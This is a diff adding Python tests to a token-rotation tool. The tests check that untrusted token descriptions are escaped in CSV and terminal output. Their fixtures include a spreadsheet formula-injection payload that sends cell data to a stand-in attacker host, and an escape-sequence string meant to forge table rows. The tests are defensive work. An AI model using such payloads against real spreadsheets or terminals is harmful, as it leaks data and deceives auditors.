@@ -443,3 +443,32 @@ def test_a_token_description_cannot_write_toml_into_a_suggested_policy():
     first = text.splitlines()[0]
     assert first.startswith("# Brings token t-1 (ci token\\x0a[rotator]")
     assert '\\x0d\\x0akeep_history = "1d"\\x7f)' in first
+
+
+def test_an_issuer_s_text_reaches_no_spreadsheet_formula_and_no_terminal_control(capsys):
+    """Descriptions are anyone's who can create a token: in the CSV an auditor opens in a spreadsheet,
+    `=HYPERLINK(...)` would run; in the table, an escape sequence would reach the terminal and a
+    newline would forge a row."""
+    from rotator.observe.inventory import Entry, Inventory
+    from rotator.runners.cli import _print_inventory
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    entries = [Entry("t", "management", "tok-1", evil, "active", "unmanaged", (), "no rotator tag"),
+               Entry("t", "management", "tok-2", "ci\x1b[2J\nt  tok-9  managed", "active", "unmanaged", (), "r")]
+    result = Inventory(entries, [], ["t"])
+    now = datetime.now(UTC)
+    _print_inventory("csv", result, now)
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0]["description"] == "'" + evil, "a leading quote: the spreadsheet shows text"
+    _print_inventory("table", result, now)
+    table = capsys.readouterr().out
+    assert "\x1b" not in table and "[ci\\x1b[2J\\x0at  tok-9  managed]" in table
+    assert not any(line.startswith("t  tok-9") for line in table.splitlines()), "no forged row"
+
+
+def test_untrusted_text_helpers():
+    from rotator.observe.untrusted_text import one_line, spreadsheet_cell
+
+    assert [spreadsheet_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "plain", 3, None)] == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "plain", 3, None]
+    assert one_line("a\nb\r\x00\x7f\tc é") == "a\\x0ab\\x0d\\x00\\x7f\\x09c é"
